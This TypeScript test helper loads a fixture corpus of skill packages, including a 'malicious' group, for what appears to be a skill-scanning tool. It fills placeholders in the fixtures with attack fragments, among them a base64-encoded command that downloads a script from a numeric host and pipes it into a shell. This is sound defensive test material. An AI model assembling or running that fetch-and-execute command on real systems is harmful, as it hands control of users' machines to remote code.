/** The skills of test/fixtures/skill-corpus. */
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import type { Skill } from "../../src/model/skill.ts";
import { parseSkill, readSkill } from "../../src/skills/read/read-skill.ts";
import { B64D, base64, BASH, CURL, KEYS, NUMBER, SH, STRANGE, TCP } from "./scan/parts.ts";

const CORPUS = join(import.meta.dirname, "../fixtures/skill-corpus");

type CorpusGroup = "standard" | "dialects" | "damaged" | "malicious";
export const HARMLESS_GROUPS = ["standard", "dialects", "damaged"] as const satisfies readonly CorpusGroup[];

export interface CorpusSkill {
  readonly group: CorpusGroup;
  readonly name: string;
  readonly dir: string;
}

export function corpusSkills(groups: readonly CorpusGroup[]): CorpusSkill[] {
  return groups.flatMap((group) =>
    readdirSync(join(CORPUS, group)).map((name) => ({ group, name, dir: join(CORPUS, group, name) })),
  );
}

/** The skill with its gaps filled in, and what reads its files so. */
export async function filledIn({
  name,
  dir,
}: CorpusSkill): Promise<{ skill: Skill; readFile: (path: string) => Promise<Uint8Array> }> {
  const { files } = await readSkill(dir);
  const readFile = async (path: string): Promise<Uint8Array> =>
    Buffer.from(fill(readFileSync(join(dir, path), "utf8")));
  return { skill: { ...parseSkill(await readFile("SKILL.md"), name), dir, files }, readFile };
}

const GAPS: Readonly<Record<string, string>> = {
  bash: BASH,
  curl: CURL,
  decode: B64D,
  keys: KEYS,
  number: NUMBER,
  payload: base64(`${CURL} -s http://${NUMBER}/x | ${SH}`),
  strange: STRANGE,
  tcp: TCP,
};

function fill(text: string): string {
  return text.replaceAll(/⟦(\w+)⟧/g, (gap, name: string) => GAPS[name] ?? gap);
}
